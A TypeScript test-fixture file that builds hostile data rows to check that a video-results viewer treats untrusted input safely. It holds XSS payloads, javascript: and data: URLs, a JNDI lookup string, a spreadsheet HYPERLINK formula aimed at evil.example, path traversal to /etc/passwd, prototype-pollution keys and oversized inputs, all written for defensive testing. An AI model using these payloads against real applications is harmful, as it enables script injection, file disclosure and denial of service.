import { bare, type RowFault, toText, withFields, withResults } from './row-fault.ts';
import type { WireVideo } from './wire.ts';

const deep = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);

/** Name and text: strings that must stay text on every screen and in every file. */
const texts = [
  ['row-text-markup', '"><img src=x onerror=alert(1)></title><script>alert(1)</script><!--'],
  ['row-text-template', '${7*7} {{constructor.constructor("alert(1)")()}} ${jndi:ldap://x}'],
  ['row-text-formula', '=HYPERLINK("http://evil.example","click")'],
  ['row-text-formula-tab', '\t=1+1'],
  ['row-text-formula-wide', '＝1+1'],
  ['row-text-reversed', 'photo\u202Egnp.exe'],
  ['row-text-invisible', 'in\u200Bvis\uFEFFible\u2060'],
  ['row-text-terminal', '\u001B[31mred\u001B[0m\r\nX-Injected: yes\u0000'],
  ['row-text-surrogate', 'half \ud800 pair'],
  ['row-text-emoji', '👩‍👩‍👧‍👦 مرحبا שלום क्षि'],
  ['row-text-path', '../../../../etc/passwd'],
  ['row-text-empty', ''],
  ['row-text-long', 'long '.repeat(20_000)],
] as const;

/** Name and address: links that must not be made clickable, or with care. */
const links = [
  // oxlint-disable-next-line no-script-url -- hostile data on purpose: it must never become a link
  ['row-link-script', 'javascript:alert(1)'],
  ['row-link-data', 'data:text/html,<script>alert(1)</script>'],
  ['row-link-file', 'file:///etc/passwd'],
  ['row-link-relative', '//evil.example/x'],
  ['row-link-user', 'https://user:pw@good.example/'],
  ['row-link-no-slashes', 'https:evil.example'],
  ['row-link-homoglyph', 'https://аpple.example/'],
  ['row-link-plain-http', 'http://good.example/'],
  ['row-link-long', `https://good.example/${'x'.repeat(10_000)}`],
  ['row-link-next', 'https://good.example/?next=javascript:alert(1)'],
] as const;

/** The same text in every field that is free text. */
function inEveryText(good: WireVideo, text: string): Record<string, unknown> {
  const images = (good.results?.images ?? []).map((frame) => ({ ...frame, name: text, ref_id: text }));
  const audios = (good.results?.audios ?? []).map((track) => ({ ...track, name: text, ref_id: text }));
  return { name: text, ref_id: text, errors: text, results: { images, audios } };
}

// Made when asked for: the largest would hold up every start of the server.
function withManifests(name: string, what: string, make: () => unknown): RowFault {
  return withResults(name, what, ({ images }) => ({
    images: images.map((frame, index) =>
      index === 0 ? { ...frame, c2pa: { ...frame.c2pa, manifests: make() } } : frame,
    ),
  }));
}

/** Content made to harm whoever shows, copies or stores it. */
export const hostileRows: readonly RowFault[] = [
  ...texts.map(([name, text]) =>
    withFields(name, 'the same hostile text in every text field', (good) => inEveryText(good, text)),
  ),
  ...links.map(([name, url]) =>
    withFields(name, `result_url is ${url.slice(0, 40)}`, () => ({ result_url: url })),
  ),
  {
    name: 'row-prototype',
    what: '__proto__ and constructor keys at every level',
    rows: (good) => [
      toText(good).replaceAll(
        /\{"(hash|heuristic|model|label)":/gu,
        '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"$1":',
      ),
    ],
  },
  withFields('row-name-10mb', 'a file name of 10 MB', () => ({ name: 'x'.repeat(10_000_000) })),
  withFields('row-method-keys', 'keys named like methods', () => ({
    hasOwnProperty: 1,
    toJSON: 'x',
    // oxlint-disable-next-line unicorn/no-thenable -- a reader must not take data for a promise
    then: 'y',
    length: 3,
    toString: null,
    valueOf: {},
  })),
  withManifests('row-manifest-deep', 'a manifest nested 10,000 deep', () => ({ x: bare(deep(10_000)) })),
  withManifests('row-manifest-wide', 'a manifest of 200,000 keys', () =>
    Object.fromEntries(Array.from({ length: 200_000 }, (_, index) => [`k${index}`, index])),
  ),
  withManifests('row-manifest-hostile', 'a manifest full of links and markup', () => ({
    'urn:c2pa:<script>': {
      title: '<svg onload=alert(1)>',
      // oxlint-disable-next-line no-script-url -- hostile data on purpose: it must never become a link
      thumbnail: { format: 'image/svg+xml', identifier: 'javascript:alert(1)' },
      signature_info: { issuer: 'Trusted', common_name: '\u202Edetsurt' },
    },
  })),
  withResults('row-trusted-claim', 'a state the reader does not have', ({ images }) => ({
    images: images.map((frame) => ({
      ...frame,
      c2pa: { ...frame.c2pa, validation_state: 'VeryTrusted' },
    })),
  })),
];
